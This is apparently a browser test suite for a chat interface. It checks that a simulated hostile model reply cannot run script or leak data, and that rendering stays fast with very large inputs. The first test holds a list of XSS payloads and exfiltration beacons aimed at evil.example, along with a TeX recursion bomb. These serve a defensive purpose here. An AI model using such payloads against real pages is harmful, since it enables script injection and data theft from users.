// A model that means harm, and sizes nobody expects.

import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { box, closeBrowser, eventually, replies, say, words, world } from './harness.mjs'

after(closeBrowser)

// watched counts what a page may never do, and how long its main thread was away at once.
async function watched(page) {
  await page.addInitScript(() => {
    window.bad = []
    document.addEventListener('securitypolicyviolation', e => window.bad.push('policy: ' + e.violatedDirective + ' ' + e.blockedURI))
    window.alert = () => window.bad.push('alert')
  })
  await page.reload()
}

test('a hostile model can only write', async t => {
  const w = await world(t)
  const page = await w.open()
  await watched(page)
  const popups = []
  page.context().on('page', p => popups.push(p.url()))
  const evil = [
    '<script>alert(1)</script>', '<img src=x onerror="alert(1)">', '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>', '[click](javascript:alert(1))',
    '![p](https://evil.example/pixel.png?leak=1)', '![p](//evil.example/x.png)', '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action=https://evil.example><input name=q></form>', '<style>*{display:none}</style>', '<base href=https://evil.example>', '`\u202egnp.exe`', 'prose \u202edesrever', '[x]: javascript:alert(1)\n\n[x]', '$\\href{javascript:alert(1)}{x}$',
    '$$\\includegraphics{https://evil.example/x.png}$$', '$$' + '\\def\\a{\\a\\a}\\a'.repeat(5) + '$$', '```html\n<script>alert(1)</script>\n```', '<svg><script>alert(1)</script></svg>', '<b onclick=alert(1)>b</b>',
  ]
  w.model.next(evil.join('\n\n') + '\n\nThe end.')
  await say(page, 'Be evil')
  await words(page).getByText('The end.').waitFor()
  for (const a of await page.locator('.md a').all()) {
    const href = await a.getAttribute('href')
    assert.match(href, /^https:/)
    assert.equal(await a.getAttribute('target'), '_blank')
    assert.equal(await a.getAttribute('rel'), 'noopener noreferrer')
  }
  assert.equal(await page.locator('.md script, .md iframe, .md style, .md link, .md form, .md svg, .md img, .md b').count(), 0)
  await page.waitForLoadState('networkidle')
  assert.deepEqual(await page.evaluate(() => window.bad), [])
  assert.deepEqual(popups, [])
  assert.deepEqual(w.problems, [], 'nothing was asked of another computer')
  assert.ok(page.url().startsWith(w.engine.url))
})

test('the window keeps its policy and gives the token to nobody', async t => {
  const w = await world(t)
  const page = await w.open()
  await box(page).waitFor()
  const r = await fetch(w.engine.url + '/')
  const policy = r.headers.get('content-security-policy')
  assert.match(policy, /script-src 'self'/)
  assert.ok(!/unsafe-inline|unsafe-eval/.test(policy.replace(/frame-ancestors.*/, '')), policy)
  assert.equal(r.headers.get('referrer-policy'), 'no-referrer')
  assert.ok(!/ style=| on\w+=|<script>/.test(await r.text()))
  assert.equal(await page.evaluate(() => history.length < 4 && !location.href.includes('token')), true)
  await page.goBack().catch(() => undefined)
  assert.ok(!page.url().includes('token-for'))
})

test('giant tables, endless lines and a thousand blocks', async t => {
  const w = await world(t)
  const page = await w.open()
  w.model.next('| a | b |\n|---|---|\n' + '| one | two |\n'.repeat(8000) + '\n\n' + 'x'.repeat(300_000) + '\n\n' + 'y'.repeat(1000) + '\n\nlast words')
  await say(page, 'Much')
  await page.getByRole('button', { name: 'Stop the reply' }).waitFor({ state: 'detached', timeout: 60_000 })
  await page.getByRole('button', { name: /Show more/ }).first().waitFor()
  const nodes = await page.evaluate(() => document.querySelectorAll('*').length)
  assert.ok(nodes < 5000, `${nodes} elements`)
  await box(page).fill('still alive')
  assert.equal(await box(page).inputValue(), 'still alive')
  assert.deepEqual(w.problems, [])
})

test('a 5 MB message, sent and received', async t => {
  const w = await world(t)
  const page = await w.open()
  await box(page).waitFor()
  const five = 5_000_000
  // Typed by a program: a paste of this size becomes a file.
  await page.evaluate(n => {
    const box = document.getElementById('message')
    box.value = 'begin ' + 'words and more words '.repeat(n / 21)
    box.dispatchEvent(new Event('input', { bubbles: true }))
  }, five)
  w.model.next('Long.', ...Array.from({ length: 50 }, () => 'All work and no play. '.repeat(five / 50 / 22)))
  await page.keyboard.press('Enter')
  await page.locator('article.user').getByRole('button', { name: /Show more/ }).waitFor({ timeout: 60_000 })
  await page.locator('article.reply').getByRole('button', { name: /Show more/ }).waitFor({ timeout: 60_000 })
  await page.getByRole('button', { name: 'Stop the reply' }).waitFor({ state: 'detached', timeout: 60_000 })
  const shown = await page.evaluate(() => document.querySelector('.log').textContent.length)
  assert.ok(shown < 400_000, `${shown} characters are drawn`)
  await page.reload()
  await words(page).getByText(/All work/).first().waitFor({ timeout: 60_000 })
  assert.deepEqual(w.problems, [])
})

test('a thousand tool cards', async t => {
  const w = await world(t, { config: '  max_tool_rounds: 40\n' })
  const page = await w.open()
  // One reply of a model may ask for 128 calls at most.
  for (let r = 0; r < 10; r++) w.model.next({ tools: Array.from({ length: 100 }, (_, i) => ({ name: 'file_list', args: { folder: `f${r}-${i}` } })) })
  w.model.next('Counted.')
  await say(page, 'Count')
  await words(page).getByText('Counted.').waitFor({ timeout: 120_000 })
  const head = page.getByRole('button', { name: /1,000 steps/ })
  await head.waitFor()
  assert.equal(await page.locator('details.tool').count(), 0, 'folded')
  await head.click()
  assert.equal(await page.locator('details.tool').count(), 50)
  await page.getByRole('button', { name: /Show more/ }).click()
  assert.equal(await page.locator('details.tool').count(), 250)
  await page.reload()
  await page.getByRole('button', { name: /1,000 steps/ }).waitFor()
  assert.deepEqual(w.problems, [])
})

test('10,000 messages are scrolled, and only a few are drawn', async t => {
  const w = await world(t)
  const id = await w.engine.say('seed')
  const page = await w.open()
  await box(page).waitFor()
  const rows = Array.from({ length: 10_000 }, (_, i) => ({
    id: 'M' + String(i).padStart(6, '0'), role: i % 2 ? 'assistant' : 'user', thinking: null, tool_call_id: null, name: null, attachments: [], interjection: false, memory_sources: [], sources: [], approval: null, checks: [],
    content: i % 2 ? `Answer ${i}. ${'Some **words** of a reply. '.repeat(1 + (i * 7) % 40)}\n\n- one\n- two\n\n${i % 10 === 1 ? '```js\nlet a = 1\n```' : ''}` : `Question ${i}`, created_at: '2026-01-01T00:00:00.000000+00:00',
  }))
  await page.route('**/messages?*', r => {
    const limit = Number(new URL(r.request().url()).searchParams.get('limit'))
    return r.fulfill({ json: rows.slice(-limit) })
  })
  await page.evaluate(() => {
    window.longest = 0
    new PerformanceObserver(l => { for (const e of l.getEntries()) window.longest = Math.max(window.longest, e.duration) }).observe({ type: 'longtask', buffered: false })
  })
  await page.locator('nav.list li a').first().click()
  await words(page).getByText('Answer 9999.').waitFor()
  const log = page.locator('.log')
  // To the very top, page by page through the middle, and back to the end.
  await log.focus()
  await page.mouse.move(700, 400)
  await eventually('all messages', async () => {
    await page.mouse.wheel(0, -3000)
    return page.evaluate(() => document.querySelector('.log').scrollHeight > 500_000)
  })
  const opened = await page.evaluate(() => window.longest)
  await page.evaluate(() => { window.longest = 0 })
  for (let i = 0; i < 40; i++) {
    await page.mouse.wheel(0, -1200)
    await page.waitForTimeout(16)
  }
  const slots = await page.locator('.slot').count()
  assert.ok(slots > 2 && slots < 60, `${slots} drawn`)
  const smooth = await page.evaluate(() => window.longest)
  // What the reader looks at stays where it is while heights above become known.
  const anchor = async () => page.evaluate(() => { const b = document.querySelector('.log').getBoundingClientRect(); const s = [...document.querySelectorAll('.slot')].find(e => e.getBoundingClientRect().bottom > b.top + 5); return [s.dataset.key, Math.round(s.getBoundingClientRect().top - b.top)] })
  const before = await anchor()
  await page.waitForTimeout(300)
  const later = await anchor()
  assert.equal(later[0], before[0])
  assert.ok(Math.abs(later[1] - before[1]) <= 2, `moved by ${later[1] - before[1]} px`)
  await log.evaluate(e => { e.scrollTop = 0 })
  await page.locator('article.user').getByText('Question 0', { exact: true }).waitFor()
  await page.getByRole('button', { name: 'Latest' }).click()
  await words(page).getByText('Answer 9999.').waitFor()
  t.diagnostic(`longest task: ${Math.round(opened)} ms while 10,000 messages were read, ${Math.round(smooth)} ms while scrolling`)
  assert.ok(smooth < 200, `a task of ${smooth} ms while scrolling`)
  assert.deepEqual(w.problems, [])
})
